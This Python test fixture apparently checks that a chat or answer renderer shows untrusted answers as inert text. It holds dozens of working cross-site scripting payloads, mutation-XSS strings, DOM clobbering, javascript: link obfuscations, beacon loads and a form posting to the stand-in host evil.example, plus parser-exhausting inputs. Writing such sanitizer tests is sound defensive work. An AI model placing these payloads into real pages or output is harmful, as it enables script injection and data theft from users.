"""Answers that try to do something on the page: each must stay words.

What runs says so in `window.watched.ran`; what is loaded is a request that the visit notes.
"""

from __future__ import annotations

RUN = "window.watched.ran.push(1)"
BEACON = "http://evil.example/beacon"

ANSWERS = {
    "script": f"<script>{RUN}</script>",
    "script with src": f'<script src="{BEACON}.js"></script>',
    "module": f'<script type="module">import "{BEACON}.js"</script>',
    "onerror": f'<img src=x onerror="{RUN}">',
    "svg onload": f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg use": f'<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg><svg><a xlink:href='
    f'"javascript:{RUN}"><text y=20>x</text></a></svg>',
    "details ontoggle": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "autofocus": f'<input autofocus onfocus="{RUN}"><select autofocus onfocus="{RUN}"></select>',
    "iframe": f'<iframe src="{BEACON}"></iframe><iframe srcdoc="<script>parent.{RUN}</script>">',
    "object": f'<object data="{BEACON}"></object><embed src="{BEACON}">',
    "form": f'<form action="{BEACON}"><input name=key><button autofocus>Continue</button></form>',
    "button formaction": f'<button formaction="javascript:{RUN}">Continue</button>',
    "style": "<style>body, .answer { display: none !important }</style>",
    "style attribute": '<div style="position:fixed;inset:0;background:red;z-index:9999">x</div>',
    "css import": f'<style>@import url("{BEACON}.css");</style>'
    f'<link rel=stylesheet href="{BEACON}">',
    "css url": f'<p style="background:url({BEACON})">x</p>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={BEACON}">',
    "base": f'<base href="{BEACON}/">',
    "link prefetch": f'<link rel="prefetch" href="{BEACON}"><link rel="preload" as=image href='
    f'"{BEACON}">',
    "media": f'<video src="{BEACON}" autoplay></video><audio src="{BEACON}" autoplay></audio>'
    f'<picture><source srcset="{BEACON}"><img src="{BEACON}"></picture>',
    "markdown image": f"![a picture]({BEACON}.png)",
    "markdown image by reference": f"![a picture][p]\n\n[p]: {BEACON}.png",
    "data picture": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "javascript link": f"[click me](javascript:{RUN})",
    "javascript link with entities": f"[click me](&#106;avascript&colon;{RUN})",
    "javascript link with a tab": f'<a href="java\tscript:{RUN}">click me</a>',
    "javascript link with capitals": f"[click me](JaVaScRiPt:{RUN} )",
    "javascript autolink": f"<javascript:{RUN}>",
    "data link": f"[click me](data:text/html,<script>{RUN}</script>)",
    "vbscript link": "[click me](vbscript:msgbox(1))",
    "blob link": "[click me](blob:http://127.0.0.1/1)",
    "link with a title": f"[click me](https://example.com '\" onmouseover=\"{RUN}')",
    "fence with an info string": f'```"><img src=x onerror="{RUN}">\ncode\n```',
    "fence that never ends": f"```html\n<script>{RUN}</script>\n<img src=x onerror={RUN}>",
    "table": f"| a |\n| --- |\n| <img src=x onerror={RUN}> |",
    "heading": f"# <img src=x onerror={RUN}>\n\n<h1 id=main>x</h1>",
    "mutation by mathml": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;'
    f'&lt;img src=1 onerror={RUN}&gt;">',
    "mutation by svg": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mutation by template": f"<template><s><template><s><img src=x onerror={RUN}>@</s></template>"
    "</s></template>",
    "mutation by form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror="
    f'"{RUN}">',
    "mutation by comment": f'<a href="--><img src=x onerror={RUN}>">x</a><!--',
    "mutation by select": f'<select><template><style><!--</style><a rel="--></style></template>'
    f'</select><img id=x src onerror={RUN}>">',
    "clobbering": '<form id=watched><input name=ran></form><img name=body><a id=main href="x"></a>'
    "<img name=getElementById><input id=composer>",
    "custom elements": f'<x-a onclick="{RUN}" is="x-b">x</x-a><marquee onstart="{RUN}">x</marquee>',
    "popover": "<button popovertarget=x>x</button>"
    f'<div id=x popover onbeforetoggle="{RUN}">x</div>',
    "unicode direction": "user\u202egpj.exe and \u0000 null and \ufeff marks",
    "ansi and controls": "\x1b[31mred\x1b[0m \x07\x08",
    "a server timing": ': server-timing: total;dur=1\n\ndata: [DONE]\n\ndata: {"error": {}}',
    "nested quotes": "> " * 400 + "deep",
    "nested lists": "".join("  " * depth + "- x\n" for depth in range(200)),
    "quotes without end": "> " * 4000,
    "lists without end": "1. " * 2500,
    "many brackets": "[" * 5000,
    "many stars": "*a " * 3000 + "_b " * 3000,
}
